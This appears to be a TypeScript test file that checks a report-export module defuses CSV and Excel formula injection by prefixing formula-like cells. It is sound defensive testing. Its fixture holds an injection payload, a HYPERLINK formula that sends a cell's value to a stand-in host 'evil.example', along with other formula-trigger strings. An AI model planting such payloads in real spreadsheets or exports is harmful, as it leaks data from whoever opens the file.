import ExcelJS from 'exceljs';
import { neutraliseFormula, type Sheet, toCsv, toXlsx } from './report-export';

const sheet: Sheet = {
  name: 'overdue',
  columns: [
    { header: '名称', key: 'name' },
    { header: '超期小时', key: 'hours' },
  ],
  rows: [
    { name: '=HYPERLINK("http://evil.example/?"&A1,"点击")', hours: -2 },
    { name: '+1+2', hours: 3 },
    { name: '@SUM(A1)', hours: 4 },
    { name: '\t=1+1', hours: 5 },
    { name: '杭州市西溪医院', hours: 6 },
  ],
};

describe('report exports (CSV injection)', () => {
  it('should prefix a text cell that starts like a formula, and leave numbers and other text alone', () => {
    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
    expect(neutraliseFormula('-5')).toBe("'-5");
    expect(neutraliseFormula('a=1')).toBe('a=1');
    expect(neutraliseFormula(-5)).toBe(-5);
    expect(neutraliseFormula(null)).toBeNull();
  });

  it('should write no formula into a CSV download', async () => {
    const text = (await toCsv(sheet)).toString('utf8');
    const lines = text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[1]).toMatch(/^"?'=HYPERLINK/);
    expect(lines[2]).toMatch(/^'\+1\+2,3/);
    expect(lines[3]).toMatch(/^'@SUM/);
    expect(lines[4]).toMatch(/^"?'\t=1\+1/);
    expect(lines[5]).toBe('杭州市西溪医院,6');
    expect(lines[1]).toMatch(/,-2$/);
  });

  it('should write no formula into an Excel download', async () => {
    const workbook = new ExcelJS.Workbook();
    const bytes = await toXlsx([sheet]);
    // A copy into a plain ArrayBuffer, the type ExcelJS's declarations ask for.
    await workbook.xlsx.load(new Uint8Array(bytes).buffer);
    const ws = workbook.getWorksheet('overdue')!;
    const names = [2, 3, 4, 5, 6].map((r) => ws.getRow(r).getCell(1).value);
    expect(names).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"点击")`,
      "'+1+2",
      "'@SUM(A1)",
      "'\t=1+1",
      '杭州市西溪医院',
    ]);
    expect(ws.getRow(2).getCell(2).value).toBe(-2);
  });
});
